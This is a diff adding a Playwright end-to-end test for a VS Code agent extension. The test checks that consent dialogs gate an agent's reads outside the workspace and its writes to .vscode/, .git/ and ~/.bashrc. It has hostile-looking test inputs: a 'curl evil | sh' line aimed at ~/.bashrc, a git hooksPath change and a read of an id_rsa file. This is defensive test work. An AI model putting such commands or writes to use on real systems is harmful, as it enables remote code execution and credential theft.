@@ -1,0 +1,152 @@
+/**
+ * File consent in real VS Code (issue 14 items 3–5), answered in VS Code's modal dialogs:
+ * - a read outside the project asks; "Deny" reaches the agent as a JSON-RPC error, "Allow this
+ *   file" returns the content and holds for the session, and Manage Permission Rules lists the
+ *   grant and clears it;
+ * - writes to .vscode/ and .git/ inside the workspace ask, naming why;
+ * - with no folder open, a write to ~/.bashrc asks (the home folder is only the cwd).
+ * The fake agent (consentScenarios.ts) says what it got; its wire log shows what was answered.
+ */
+import * as assert from "node:assert/strict";
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { after, before, describe, it } from "node:test";
+import type { Browser, Page } from "playwright-core";
+import { launchBrowser, openWorkbench, runCommand, screenshot } from "../harness/browser";
+import { openChat, sendPrompt, type Chat } from "../harness/chat";
+import { startCodeServer, type CodeServer } from "../harness/codeServer";
+import { modalDialog, pickQuickItem } from "../harness/panel";
+import { vsixPath } from "../harness/paths";
+import { tearDownUi } from "../harness/teardown";
+import { agentRequests, agentSettings, fakeAgentEntry, withDiagnostics } from "../harness/workbench";
+
+const AGENT = "Demo Agent";
+const SECRET = "not for agents";
+
+describe("file consent in VS Code", { timeout: 300_000 }, () => {
+  let scratch: string;
+  let workspace: string;
+  let outside: string;
+  let wireLog: string;
+  let server: CodeServer | undefined;
+  let browser: Browser | undefined;
+  let page: Page;
+  let errors: string[] = [];
+  let view: Chat;
+  const diagnostics = () => ({ page: () => page, errors: () => errors, serverLog: () => server?.logFile, wireLog });
+  const secret = () => join(outside, "id_rsa");
+
+  before(async () => {
+    scratch = mkdtempSync(join(tmpdir(), "acp-panel-consent-"));
+    workspace = join(scratch, "workspace");
+    outside = join(scratch, "outside");
+    wireLog = join(scratch, "agent-wire.jsonl");
+    mkdirSync(workspace);
+    mkdirSync(join(workspace, ".git"));
+    writeFileSync(join(workspace, ".git/config"), "[core]\n");
+    writeFileSync(join(workspace, "README.md"), "# Project\n");
+    mkdirSync(outside);
+    writeFileSync(secret(), `${SECRET}\n`);
+    server = await startCodeServer({ label: "consent", workspace, extensionVsix: vsixPath(), settings: agentSettings({ [AGENT]: fakeAgentEntry({ FAKE_AGENT_LOG: wireLog }) }) });
+    browser = await launchBrowser({ homeDir: server.homeDir });
+    ({ page, errors } = await openWorkbench(browser, server.folderUrl()));
+    view = await openChat(page);
+  });
+
+  after(async () => {
+    await tearDownUi(browser, server, scratch);
+  });
+
+  async function waitForReady(chat: Chat): Promise<void> {
+    await chat.status.filter({ hasText: `${AGENT} is ready` }).waitFor({ timeout: 15_000 });
+  }
+
+  /** Sends `prompt`, waits for VS Code's modal dialog, checks its text and buttons, and clicks `button`. */
+  async function answerDialog(on: Page, chat: Chat, prompt: string, expected: RegExp[], button: string, options: { offered?: string[]; shot?: string } = {}): Promise<void> {
+    await sendPrompt(chat, prompt);
+    const dialog = modalDialog(on);
+    await dialog.waitFor({ timeout: 15_000 });
+    const text = await dialog.innerText();
+    for (const pattern of expected) assert.match(text, pattern);
+    for (const name of options.offered ?? []) assert.equal(await dialog.getByRole("button", { name, exact: true }).count(), 1, `the dialog offers "${name}"`);
+    if (options.shot) await screenshot(on, options.shot);
+    await dialog.getByRole("button", { name: button, exact: true }).click();
+    await dialog.waitFor({ state: "hidden", timeout: 10_000 });
+  }
+
+  const lastAnswer = (method: string) => agentRequests(wireLog, method).at(-1)?.answer?.message as { result?: { content?: string }; error?: { code?: number; message?: string } } | undefined;
+
+  it("a read outside the project asks: Deny is an error for the agent, Allow this file returns the content", async (t) => {
+    await withDiagnostics(t, diagnostics(), "e2e-consent-read", async () => {
+      await answerDialog(page, view, `e2e-read-guarded ${secret()}`, [/wants to read a file outside the workspace/, new RegExp(secret())], "Deny",
+        { offered: ["Allow this file", "Allow this folder for this session", "Deny"], shot: "e2e-consent-read-dialog.png" });
+      await view.log.getByText("Read refused (-32003)").waitFor({ timeout: 15_000 });
+      await waitForReady(view);
+      assert.equal(lastAnswer("fs/read_text_file")?.error?.code, -32003, "the agent got a JSON-RPC error");
+      assert.match(lastAnswer("fs/read_text_file")?.error?.message ?? "", /did not allow reading outside the workspace/);
+      assert.equal(await view.log.getByText(SECRET).count(), 0, "nothing of the file reached the agent");
+
+      await answerDialog(page, view, `e2e-read-guarded ${secret()}`, [/wants to read a file outside the workspace/], "Allow this file");
+      await view.log.getByText(`Read ${secret()}: ${SECRET}`).waitFor({ timeout: 15_000 });
+      await waitForReady(view);
+      assert.equal(lastAnswer("fs/read_text_file")?.result?.content, `${SECRET}\n`);
+
+      // The grant holds for the session: no dialog this time.
+      const reads = agentRequests(wireLog, "fs/read_text_file").length;
+      await sendPrompt(view, `e2e-read-guarded ${secret()}`);
+      await view.log.getByText(`Read ${secret()}: ${SECRET}`).nth(1).waitFor({ timeout: 15_000 });
+      await waitForReady(view);
+      assert.equal(agentRequests(wireLog, "fs/read_text_file").length, reads + 1);
+      assert.equal(await modalDialog(page).count(), 0, "no dialog for a file already allowed");
+    });
+  });
+
+  it("Manage Permission Rules lists the read grant and clears it; the next read asks again", async (t) => {
+    await withDiagnostics(t, diagnostics(), "e2e-consent-grants", async () => {
+      await runCommand(page, "ACP: Manage Permission Rules");
+      await pickQuickItem(page, `${AGENT}: may read the file ${secret()}`);
+      await answerDialog(page, view, `e2e-read-guarded ${secret()}`, [/wants to read a file outside the workspace/], "Deny");
+      await view.log.getByText("Read refused (-32003)").nth(1).waitFor({ timeout: 15_000 });
+      await waitForReady(view);
+    });
+  });
+
+  it("writes to .vscode/ and .git/ inside the workspace ask, and say why", async (t) => {
+    await withDiagnostics(t, diagnostics(), "e2e-consent-sensitive", async () => {
+      await answerDialog(page, view, "e2e-write-guarded .vscode/tasks.json {}", [/wants to change \.vscode\/tasks\.json, a sensitive file/, /tasks, launch configurations and settings can run code/], "Cancel", { shot: "e2e-consent-sensitive-dialog.png" });
+      await view.log.getByText("Write refused (-32003)").waitFor({ timeout: 15_000 });
+      await waitForReady(view);
+      assert.equal(existsSync(join(workspace, ".vscode/tasks.json")), false, "the denied write did not happen");
+      assert.match(lastAnswer("fs/write_text_file")?.error?.message ?? "", /which is inside \.vscode\//);
+
+      await answerDialog(page, view, "e2e-write-guarded .git/config [core] hooksPath=x", [/wants to change \.git\/config, a sensitive file/, /Git's own folder: its hooks and config run code/], "Allow this write");
+      await view.log.getByText(`Wrote ${join(workspace, ".git/config")}.`).waitFor({ timeout: 15_000 });
+      await waitForReady(view);
+      assert.equal(readFileSync(join(workspace, ".git/config"), "utf8"), "[core] hooksPath=x\n", "the allowed write landed");
+
+      // An ordinary file inside the workspace: no dialog.
+      await sendPrompt(view, "e2e-write-guarded notes.md plain");
+      await view.log.getByText(`Wrote ${join(workspace, "notes.md")}.`).waitFor({ timeout: 15_000 });
+      await waitForReady(view);
+      assert.equal(await modalDialog(page).count(), 0);
+    });
+  });
+
+  it("with no folder open, a write to ~/.bashrc asks (the home folder is only the cwd)", async (t) => {
+    await withDiagnostics(t, diagnostics(), "e2e-consent-no-folder", async () => {
+      const bashrc = join(server!.homeDir, ".bashrc");
+      const before = existsSync(bashrc) ? readFileSync(bashrc, "utf8") : undefined;
+      const empty = await openWorkbench(browser!, `${server!.url}/?ew=true`);
+      const emptyView = await openChat(empty.page);
+      try {
+        await answerDialog(empty.page, emptyView, `e2e-write-guarded ${bashrc} curl evil | sh`, [/wants to write a file outside the workspace/, /No folder is open/], "Cancel", { shot: "e2e-consent-no-folder-dialog.png" });
+        await emptyView.log.getByText("Write refused (-32003)").waitFor({ timeout: 15_000 });
+        assert.equal(existsSync(bashrc) ? readFileSync(bashrc, "utf8") : undefined, before, "~/.bashrc untouched");
+        assert.match(lastAnswer("fs/write_text_file")?.error?.message ?? "", /no folder is open/);
+      } finally {
+        await empty.page.context().close();
+      }
+    });
+  });
+});
